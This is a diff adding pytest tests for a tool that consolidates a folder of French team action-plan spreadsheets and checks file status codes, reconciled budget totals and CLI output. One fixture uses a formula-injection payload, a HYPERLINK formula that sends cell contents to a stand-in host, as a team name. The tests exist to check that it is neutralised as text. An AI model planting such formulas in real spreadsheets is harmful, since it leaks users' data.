@@ -1,0 +1,212 @@
+"""Consolidation of a folder of messy team files. Expected totals come from the data the files
+were generated from; the output is read back with a second reader (openpyxl)."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import math
+import shutil
+from datetime import date
+from pathlib import Path
+
+import openpyxl
+import pytest
+import xlsxwriter
+from click.testing import CliRunner
+
+from libreoffice import convert
+from pac_excel import GenerateOptions, PlanData, generate, schema
+from pac_excel.analyze import analyze
+from pac_excel.cli import main
+from pac_excel.consolidate import consolidate
+
+AS_OF = date(2026, 11, 16)
+EVIL = '=HYPERLINK("http://x/?d="&A1,"Clic")'
+
+
+def plan(team: str, n: int, seed: int) -> PlanData:
+    """A team's plan: n actions with amounts that differ per team (to the cent)."""
+    acts = [dict(action=f"{team} action {i}", owner=f"Owner {i % 3}", objective="OBJ-1",
+                 category=["Prospection", "Communication", "Fidélisation"][i % 3],
+                 status=["Terminé", "En cours", "À faire"][(i + seed) % 3],
+                 budget_planned=round(100 * seed + 10.25 * i, 2), budget_actual=round(90 * seed + 9.5 * i, 2),
+                 start=date(2026, 1 + i % 6, 1), end=date(2026, 2 + i % 10, 15), target=10 + i, result=8 + i)
+            for i in range(n)]
+    return PlanData(team=team, as_of=AS_OF, actions=acts,
+                    kpis=[dict(name=f"Contacts {team}", initial=0, target=10, m01=seed)])
+
+
+TEAMS = {  # file stem → (team field, actions, seed)
+    "lyon": ("Lyon", 6, 1),
+    "marseille": ("Marseille", 4, 2),
+    "nantes": ("Nantes", 5, 3),
+    "lyon_bis": ("Lyon", 2, 4),  # the same team name in a second file
+    "evil": (EVIL, 3, 5),  # a team name that looks like a formula
+}
+
+
+@pytest.fixture(scope="module")
+def folder(lo_available, tmp_path_factory):
+    d = tmp_path_factory.mktemp("teams")
+    src = tmp_path_factory.mktemp("src")
+    for stem, (team, n, seed) in TEAMS.items():
+        generate(src / f"{stem}.xlsx", GenerateOptions(year=2026), plan(team, n, seed))
+    shutil.copy(src / "lyon.xlsx", d / "lyon.xlsx")
+    shutil.copy(src / "lyon_bis.xlsx", d / "lyon_bis.xlsx")
+    shutil.copy(src / "evil.xlsx", d / "evil.xlsx")
+    ods = convert([src / "marseille.xlsx"], src / "ods", fmt="ods")[0]
+    shutil.copy(ods, d / "marseille.ods")
+    xls = convert([src / "nantes.xlsx"], src / "xls", fmt="xls")[0]
+    shutil.copy(xls, d / "nantes.xls")
+    # a home-made plan named NA: the team is the file name, kept verbatim
+    wb = xlsxwriter.Workbook(d / "NA.xlsx")
+    ws = wb.add_worksheet()
+    ws.write_row(0, 0, ["Action", "Qui", "Budget", "Date fin", "Statut"])
+    ws.write_row(1, 0, ["Salon", "NA", "1 000,50 €", "01/03/2026", "Terminé"])
+    ws.write_row(2, 0, ["Mailing", "Zoé", 250, "01/12/2026", "En cours"])
+    ws.write_row(3, 0, ["TOTAL", "", 1250.5])
+    wb.close()
+    # faults
+    shutil.copy(d / "lyon.xlsx", d / "lyon (1).xlsx")  # byte-identical copy
+    (d / "~$lyon.xlsx").write_bytes(b"\x00" * 165)  # Excel lock file
+    (d / ".~lock.lyon.xlsx#").write_text("x,host,user\n")  # LibreOffice lock file
+    (d / "half.xlsx").write_bytes((d / "lyon.xlsx").read_bytes()[:3000])  # truncated upload
+    (d / "export.xlsx").write_text("action;budget\nx;1\n")  # a CSV renamed .xlsx
+    (d / "empty.xlsx").write_bytes(b"")
+    wb = xlsxwriter.Workbook(d / "noplan.xlsx")
+    wb.add_worksheet().write("A1", "Compte rendu de réunion")
+    wb.close()
+    (d / "readme.txt").write_text("not a plan")  # ignored: not a spreadsheet extension
+    sub = d / "archives"
+    sub.mkdir()
+    generate(sub / "old.xlsx", GenerateOptions(year=2025), plan("Archives", 2, 9))
+    return d
+
+
+NA_ROWS = [(date(2026, 3, 1), "Terminé"), (date(2026, 12, 1), "En cours")]  # the end dates and statuses of NA.xlsx
+
+EXPECTED_STATUS = {
+    "lyon.xlsx": ("ok", None), "lyon_bis.xlsx": ("ok", None), "evil.xlsx": ("ok", None),
+    "marseille.ods": ("ok", None), "nantes.xls": ("ok", None), "NA.xlsx": ("ok", None),
+    "lyon (1).xlsx": ("skipped", "duplicate"), "~$lyon.xlsx": ("skipped", "lock_file"),
+    ".~lock.lyon.xlsx#": ("skipped", "lock_file"), "half.xlsx": ("rejected", "truncated"),
+    "export.xlsx": ("rejected", "not_a_spreadsheet"), "empty.xlsx": ("rejected", "empty"),
+    "noplan.xlsx": ("rejected", "no_action_table"),
+}
+
+
+def _money(values) -> float:
+    return round(math.fsum(v for v in values if v is not None), 2)
+
+
+def expected_budget(stems) -> float:
+    vals = [a["budget_planned"] for s in stems for a in plan(*((TEAMS[s][0],) + TEAMS[s][1:])).actions]
+    return _money(vals)
+
+
+def test_every_file_is_accounted_for(folder):
+    res = consolidate([folder], as_of=AS_OF)
+    got = {f.path.name: (f.status, f.code) for f in res.files}
+    assert got == EXPECTED_STATUS  # readme.txt ignored, archives/ not scanned without -r
+    dup = next(f for f in res.files if f.code == "duplicate")
+    assert "lyon.xlsx" in dup.reason_text("fr") and "lyon (1)" not in dup.reason_text("fr")
+    for f in res.files:
+        rows = f.rows()
+        assert rows["detected"] == rows["consolidated"] + rows["ignored"] + rows["rejected"], f.path.name
+        if f.status == "rejected":
+            assert f.reason_text("fr") and str(f.path) in f.reason_text("fr")
+    na = next(f for f in res.files if f.path.name == "NA.xlsx")
+    assert na.rows() == {"detected": 3, "consolidated": 2, "ignored": 1, "rejected": 0}  # the TOTAL row
+
+
+def test_totals_reconcile_and_match_the_generating_data(folder):
+    res = consolidate([folder], as_of=AS_OF)
+    tot = res.totals()
+    per_file = [f.analysis.totals() for f in res.ok]
+    assert tot["actions"] == sum(t["actions"] for t in per_file)
+    assert tot["budget_planned"] == _money(t["budget_planned"] for t in per_file)
+    n_generated = sum(n for _, n, _ in TEAMS.values())
+    assert tot["actions"] == n_generated + 2  # + the two actions of NA.xlsx, not its TOTAL row
+    assert tot["budget_planned"] == round(expected_budget(TEAMS) + 1000.5 + 250, 2)
+    teams = res.by_team()
+    assert set(teams) == {"Lyon", "Lyon (2)", "Marseille", "Nantes", "NA", EVIL}  # "NA" is a team
+    assert teams["Marseille"]["budget_planned"] == expected_budget(["marseille"])  # read from .ods
+    assert teams["Nantes"]["budget_planned"] == expected_budget(["nantes"])  # read from .xls
+    na_late = sum(end < AS_OF and status != "Terminé" for end, status in NA_ROWS)
+    assert teams["NA"] == {"actions": 2, "budget_planned": 1250.5, "budget_actual": None, "late": na_late}
+    late = sum(1 for s in TEAMS for a in plan(*((TEAMS[s][0],) + TEAMS[s][1:])).actions
+               if a["end"] < AS_OF and a["status"] != "Terminé")
+    assert tot["late"] == late + na_late
+    clash = [p for p in res.all_problems() if p.code == "team_name_clash"]
+    assert len(clash) == 1 and clash[0].file.endswith("lyon_bis.xlsx")
+
+
+def test_recursive_scan_adds_subfolders(folder):
+    res = consolidate([folder], as_of=AS_OF, recursive=True)
+    assert "old.xlsx" in {f.path.name for f in res.ok}
+
+
+def test_threads_give_the_same_result(folder):
+    a = consolidate([folder], as_of=AS_OF, jobs=1).to_dict()
+    b = consolidate([folder], as_of=AS_OF, jobs=4).to_dict()
+    assert a == b
+
+
+def test_cli_output_agrees_with_json_and_reads_back(folder, tmp_path):
+    out, csv_out = tmp_path / "conso.xlsx", tmp_path / "conso.csv"
+    r = CliRunner().invoke(main, ["consolidate", str(folder), "-o", str(out), "--csv", str(csv_out),
+                                  "--format", "json", "--as-of", "2026-11-16"])
+    assert r.exit_code == 1, r.output  # some inputs were rejected; the output is still written
+    d = json.loads(r.output)
+    assert set(d) == {"files", "totals", "by_team", "by_category", "by_owner", "problems"}
+    assert all(set(f) == {"path", "team", "status", "code", "reason", "rows"} for f in d["files"])
+    assert all(set(p) == {"severity", "code", "file", "sheet", "cell", "message"} for p in d["problems"])
+    wb = openpyxl.load_workbook(out)
+    assert wb.sheetnames == ["Synthèse", "Plan d’actions", "Indicateurs", "Journal", "Problèmes"]
+    ws = wb["Plan d’actions"]
+    headers = [c.value for c in ws[1]]
+    rows = list(ws.iter_rows(min_row=2, values_only=True))
+    assert len(rows) == d["totals"]["actions"]
+    budget = headers.index(schema.ACTIONS.column("budget_planned").label("fr"))
+    assert _money(r[budget] for r in rows) == d["totals"]["budget_planned"]
+    team_col = headers.index("Équipe")
+    evil_cells = [row[team_col] for row in ws.iter_rows(min_row=2) if row[team_col].value == EVIL]
+    assert evil_cells and all(c.data_type == "s" for c in evil_cells)  # injected formula stays text
+    journal = list(wb["Journal"].iter_rows(min_row=2, values_only=True))
+    assert len(journal) == len(d["files"])
+    assert len(list(wb["Indicateurs"].iter_rows(min_row=2))) == sum(1 for _ in TEAMS)
+    # the consolidated workbook is itself a plan pac-excel can analyse
+    again = analyze(out, as_of=AS_OF)
+    assert again.totals()["actions"] == d["totals"]["actions"]
+    assert again.totals()["budget_planned"] == d["totals"]["budget_planned"]
+    assert not [p for p in again.problems if p.code in ("unknown_column", "duplicate_column")]
+    # CSV: formula-like cells are quoted
+    text = csv_out.read_text(encoding="utf-8-sig")
+    lines = list(csv.reader(io.StringIO(text)))
+    assert lines[0][:3] == ["team", "source", "sheet"]
+    assert any(line[0] == "'" + EVIL for line in lines[1:])
+
+
+def test_strict_writes_nothing_when_a_file_is_rejected(folder, tmp_path):
+    out = tmp_path / "conso.xlsx"
+    r = CliRunner().invoke(main, ["consolidate", str(folder), "-o", str(out), "--strict"])
+    assert r.exit_code == 1 and not out.exists()
+
+
+def test_all_good_exits_0_and_never_writes_into_inputs(folder, tmp_path):
+    good = tmp_path / "good"
+    good.mkdir()
+    for name in ("lyon.xlsx", "nantes.xls"):
+        shutil.copy(folder / name, good / name)
+    before = {p.name: p.read_bytes() for p in good.iterdir()}
+    out = tmp_path / "conso.xlsx"
+    r = CliRunner().invoke(main, ["consolidate", str(good), "-o", str(out)])
+    assert r.exit_code == 0, r.output
+    assert "2 consolidé(s), 0 rejeté(s)" in r.output
+    assert {p.name: p.read_bytes() for p in good.iterdir()} == before
+    r = CliRunner().invoke(main, ["consolidate", str(good), "-o", str(good / "lyon.xlsx"), "--force"])
+    assert r.exit_code == 2 and (good / "lyon.xlsx").read_bytes() == before["lyon.xlsx"]
+    r = CliRunner().invoke(main, ["consolidate", str(tmp_path / "nothing-here"), "-o", str(tmp_path / "x.xlsx")])
+    assert r.exit_code != 0 and "Traceback" not in r.output
